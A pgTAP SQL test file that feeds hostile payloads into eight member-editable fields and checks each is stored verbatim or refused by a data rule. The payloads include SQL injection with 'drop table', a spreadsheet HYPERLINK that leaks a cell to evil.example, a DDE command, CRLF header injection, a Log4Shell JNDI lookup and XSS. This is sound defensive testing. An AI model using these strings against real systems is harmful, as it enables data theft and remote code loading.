-- =============================================================================
-- Hostile text in every free-text field members write (SQL, formulas, header CRLF,
-- control characters, direction overrides, template syntax, oversized Unicode), as an
-- admin under RLS: each is stored exactly as given or refused with a data or integrity
-- error that names the rule (SQLSTATE class 22 or 23); nothing else happens.
-- =============================================================================
begin;
set search_path to public, extensions;
select plan(3);
\ir _helpers.sql

create temporary table payloads (n serial, value text);
insert into payloads (value) values
  ($$' or 1=1 --$$),
  ($$'); drop table public.leads; --$$),
  ($$" or ""="$$),
  ('=HYPERLINK("http://evil.example?x="&A1,"click")'),
  ('+cmd|'' /C calc''!A0'),
  ('@SUM(1+1)'),
  (E'a\r\nSet-Cookie: pwned=1'),
  (E'a\u0007b\u001b[31mred\u001b[0m'),
  (E'\u202Egnp.exe'),
  ('${jndi:ldap://evil.example/a}'),
  ('<script>alert(1)</script>'),
  (repeat('🦄', 300)),
  (repeat('🦄', 5000));
create temporary table outcomes (field text, n integer, outcome text);
grant all on payloads, outcomes to authenticated;
grant usage, select on sequence payloads_n_seq to authenticated;

-- Each field: the statement that writes it (%L: the payload), returning what was stored.
create temporary table fields (field text, write text);
insert into fields values
  ('organizations.name',
   $$update public.organizations set name = %L
     where id = 'a0000000-0000-4000-8000-000000000000' returning name$$),
  ('organizations.help_text',
   $$update public.organizations set help_text = %L
     where id = 'a0000000-0000-4000-8000-000000000000' returning help_text$$),
  ('templates.name',
   $$insert into public.templates (org_id, name)
     values ('a0000000-0000-4000-8000-000000000000', %L) returning name$$),
  ('template_variants.body',
   $$insert into public.template_variants (org_id, template_id, label, body)
     values ('a0000000-0000-4000-8000-000000000000', 'a4000000-0000-4000-8000-000000000001',
             'H' || (select count(*) from public.template_variants), %L) returning body$$),
  ('campaigns.name',
   $$insert into public.campaigns (org_id, name, template_id)
     values ('a0000000-0000-4000-8000-000000000000', %L, 'a4000000-0000-4000-8000-000000000001')
     returning name$$),
  ('suppressions.reason',
   $$insert into public.suppressions (org_id, phone, source, reason)
     values ('a0000000-0000-4000-8000-000000000000',
             '+1415557' || lpad((select count(*) from public.suppressions)::text, 4, '0'),
             'manual', %L) returning reason$$),
  ('leads.notes',
   $$insert into public.leads (org_id, phone, notes)
     values ('a0000000-0000-4000-8000-000000000000',
             '+1415558' || lpad((select count(*) from public.leads)::text, 4, '0'), %L)
     returning notes$$),
  ('messages.body (a reply)',
   $$insert into public.messages (org_id, conversation_id, body)
     values ('a0000000-0000-4000-8000-000000000000', 'a7000000-0000-4000-8000-000000000001', %L)
     returning body$$);
grant all on fields to authenticated;

create function pg_temp.try_all() returns void
language plpgsql as $$
declare
  f record;
  p record;
  stored text;
begin
  for f in select * from fields loop
    for p in select * from payloads order by n loop
      begin
        execute format(f.write, p.value) into stored;
        insert into outcomes values (f.field, p.n,
          case when stored = btrim(p.value, E' \t\r\n') or stored = p.value then 'stored'
               else 'changed: ' || left(stored, 60) end);
      exception when others then
        insert into outcomes values (f.field, p.n, 'refused ' || sqlstate || ': ' || left(sqlerrm, 80));
      end;
    end loop;
  end loop;
end;
$$;

grant execute on function pg_temp.try_all() to authenticated;
select tests.authenticate_as('admin@acme.test');
select pg_temp.try_all();
reset role;

select is((select count(*) from outcomes), (select count(*) * 13 from fields),
  'every payload was tried in every field');
select is(
  (select coalesce(array_agg(field || ' #' || n || ': ' || outcome order by field, n), '{}')
   from outcomes
   where outcome not like 'stored' and outcome !~ '^refused (22|23)'),
  '{}'::text[],
  'each is stored as given or refused by a data or integrity rule, nothing else');
select ok((select count(*) filter (where outcome = 'stored') > 0
    and count(*) filter (where outcome like 'refused%') > 0 from outcomes),
  format('stored %s, refused %s',
    (select count(*) filter (where outcome = 'stored') from outcomes),
    (select count(*) filter (where outcome like 'refused%') from outcomes)));

select * from finish();
rollback;
